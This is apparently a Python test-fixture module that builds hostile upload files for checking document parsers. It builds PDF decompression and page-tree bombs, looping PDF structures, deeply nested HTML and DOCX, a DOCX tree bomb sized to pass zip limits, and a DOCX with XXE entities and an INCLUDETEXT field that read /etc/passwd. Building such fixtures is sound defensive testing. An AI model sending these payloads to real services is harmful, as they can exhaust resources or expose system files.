"""Builders of hostile uploads for the bad-file catalogue: PDFs that loop or explode, markup nested
past any sense, lines of megabytes, Word documents that point outside themselves."""

from __future__ import annotations

import io
import random
import zipfile
import zlib

_PDF_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
_W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_MAIN_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


def pdf_document(objects: list[bytes], *, extra_trailer: bytes = b"") -> bytes:
    """A PDF whose object n is objects[n - 1], object 1 the catalog, with a correct xref."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        extra_trailer,
        xref,
    )
    return bytes(out)


def pdf_stream(data: bytes, *, deflate_times: int = 0, extra: bytes = b"") -> bytes:
    """A stream object, compressed `deflate_times` times (each layer a /FlateDecode filter)."""
    for _ in range(deflate_times):
        data = zlib.compress(data, 9)
    filters = b" ".join([b"/FlateDecode"] * deflate_times)
    filters = b"/Filter [%s]" % filters if deflate_times else b""
    return b"<< /Length %d %s %s>>\nstream\n%s\nendstream" % (len(data), filters, extra, data)


def _pdf_text(text: str) -> bytes:
    safe = text.replace("\\", " ").replace("(", " ").replace(")", " ").replace("\n", " ")
    return b"BT /F1 11 Tf 72 720 Td (" + safe.encode("latin-1", "replace") + b") Tj ET"


def _one_page_pdf(contents: bytes, streams: list[bytes], resources: bytes = b"") -> bytes:
    return pdf_document(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
            _PDF_FONT,
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 3 0 R"
            b" >> %s >> /Contents %s >>" % (resources, contents),
            *streams,
        ]
    )


def pdf_repeated_heavy_page(pages: int = 300) -> bytes:
    """1.3 KB: one page whose content stream inflates (twice deflated) to 14 MB of positioning
    operators, listed `pages` times in the page tree. pypdf parses it again for every entry:
    seconds each, a quarter of an hour in all. Only the time limit stops it."""
    flood = pdf_stream(b"BT /F1 12 Tf " + b"1 0 Td " * 2_000_000 + b"ET", deflate_times=2)
    kids = b" ".join([b"4 0 R"] * pages)
    return pdf_document(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, pages),
            _PDF_FONT,
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 3 0 R"
            b" >> >> /Contents 5 0 R >>",
            flood,
        ]
    )


def pdf_decompression_bomb(streams: int = 4) -> bytes:
    """A few KB: a page whose content is `streams` streams of 30 MB of spaces each, deflated
    twice (gigabytes if the reader has no output limit; pypdf stops at 75 MB)."""
    bomb = pdf_stream(b" " * 30_000_000, deflate_times=2)
    refs = b"[%s]" % b" ".join(b"%d 0 R" % (5 + i) for i in range(streams))
    return _one_page_pdf(refs, [bomb] * streams)


def pdf_page_tree_bomb(depth: int = 30) -> bytes:
    """A page tree in which every node lists its child twice: 2**depth pages from 32 objects."""
    objects = [b"<< /Type /Catalog /Pages 4 0 R >>", _PDF_FONT]
    leaf_content = 4 + depth + 1
    objects.append(
        b"<< /Type /Page /Parent 4 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 2 0 R"
        b" >> >> /Contents %d 0 R >>" % leaf_content
    )
    for level in range(depth + 1):
        child = 4 + level + 1 if level < depth else 3
        objects.append(
            b"<< /Type /Pages /Kids [%d 0 R %d 0 R] /Count %d >>"
            % (child, child, 2 ** (depth - level + 1))
        )
    objects.append(pdf_stream(_pdf_text("lol " * 20)))
    return pdf_document(objects)


def pdf_self_drawing_form(text: str) -> bytes:
    """A readable page that also draws a form XObject whose content draws itself (a cycle)."""
    form = pdf_stream(
        b"/X1 Do",
        extra=b"/Type /XObject /Subtype /Form /BBox [0 0 10 10] "
        b"/Resources << /XObject << /X1 5 0 R >> >>",
    )
    return _one_page_pdf(
        b"6 0 R",
        [form, pdf_stream(_pdf_text(text) + b" /X1 Do")],
        resources=b"/XObject << /X1 5 0 R >>",
    )


def pdf_xref_chain_loop(text: str) -> bytes:
    """A readable page whose trailer's /Prev points back at its own cross-reference table."""
    pdf = _one_page_pdf(b"5 0 R", [pdf_stream(_pdf_text(text))])
    xref = int(pdf.rsplit(b"startxref\n", 1)[1].split(b"\n", 1)[0])
    return pdf.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev %d" % xref, 1)


def html_nested(levels: int, text: str) -> bytes:
    """`text` inside `levels` nested <div>s."""
    return (
        b"<html><body>" + b"<div>" * levels + text.encode() + b"</div>" * levels + b"</body></html>"
    )


def html_nested_with_text(levels: int) -> bytes:
    """A word at every one of `levels` nesting levels: libxml2 keeps only the first 256."""
    words = b"".join(b"<div>word%d " % i for i in range(levels))
    return b"<html><body>" + words + b"</body></html>"


def html_huge_text_run(words: int = 2_000_100) -> bytes:
    """One paragraph of `words` words: a single text node over libxml2's 10 MB limit."""
    return b"<html><body><p>" + b"word " * words + b"</p></body></html>"


def docx_package(document: str, rels: str = "", extra: dict[str, bytes] | None = None) -> bytes:
    """A minimal .docx with `document` as word/document.xml and `rels` as its relationships."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
            f'content-types"><Override PartName="/word/document.xml" ContentType="{_MAIN_TYPE}"/>'
            "</Types>",
        )
        archive.writestr("word/document.xml", document)
        if rels:
            archive.writestr("word/_rels/document.xml.rels", rels)
        for name, data in (extra or {}).items():
            archive.writestr(name, data, compress_type=zipfile.ZIP_STORED)
    return buffer.getvalue()


def _paragraphs(text: str) -> str:
    escaped = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    return "".join(f"<w:p><w:r><w:t>{line}</w:t></w:r></w:p>" for line in escaped.split("\n"))


def docx_with_external_references(text: str, url: str) -> bytes:
    """A real essay in a .docx that points outside itself every way Word allows: external
    hyperlink, linked image, attached template, subdocument, OLE link and altChunk relationships
    to `url`; an external entity (XXE) naming /etc/passwd and `url`; an XInclude; an
    INCLUDETEXT field. A safe reader fetches none of it and reads only the essay."""
    rel_types = ("hyperlink", "image", "attachedTemplate", "subDocument", "oleObject", "aFChunk")
    rels = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
        '2006/relationships">'
        + "".join(
            f'<Relationship Id="rId{i}" Type="{_REL}/{kind}" Target="{url}/{kind}" '
            'TargetMode="External"/>'
            for i, kind in enumerate(rel_types, start=1)
        )
        + "</Relationships>"
    )
    document = (
        '<?xml version="1.0"?>'
        f'<!DOCTYPE w:document [<!ENTITY passwd SYSTEM "file:///etc/passwd">'
        f'<!ENTITY remote SYSTEM "{url}/entity">]>'
        f'<w:document xmlns:w="{_W_NS}" xmlns:r="{_R_NS}" '
        'xmlns:xi="http://www.w3.org/2001/XInclude"><w:body>'
        "<w:p><w:r><w:t>&passwd;&remote;</w:t></w:r></w:p>"
        '<xi:include href="file:///etc/passwd" parse="text"/>'
        f'<w:p><w:hyperlink r:id="rId1"><w:r><w:t>{url}</w:t></w:r></w:hyperlink></w:p>'
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDETEXT '
        '"/etc/passwd"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        '<w:altChunk r:id="rId6"/>'
        f"{_paragraphs(text)}</w:body></w:document>"
    )
    return docx_package(document, rels)


def docx_nested(levels: int, text: str) -> bytes:
    """A .docx whose paragraph sits inside `levels` nested structured-document tags."""
    opening = "<w:sdt><w:sdtContent>" * levels
    closing = "</w:sdtContent></w:sdt>" * levels
    return docx_package(
        f'<?xml version="1.0"?><w:document xmlns:w="{_W_NS}"><w:body>{opening}'
        f"{_paragraphs(text)}{closing}</w:body></w:document>"
    )


def docx_tree_bomb(elements: int = 10_000_000) -> bytes:
    """A 0.5 MB .docx inside every zip limit (40 MB unpacked, ratio below 100) whose XML is
    ten million empty elements: a tree of gigabytes once parsed."""
    document = (
        f'<w:document xmlns:w="{_W_NS}"><w:body>' + "<b/>" * elements + "</w:body></w:document>"
    )
    noise = random.Random(5).randbytes(len(document) // 90)  # keeps the ratio under 100
    return docx_package(document, extra={"word/media/noise.bin": noise})
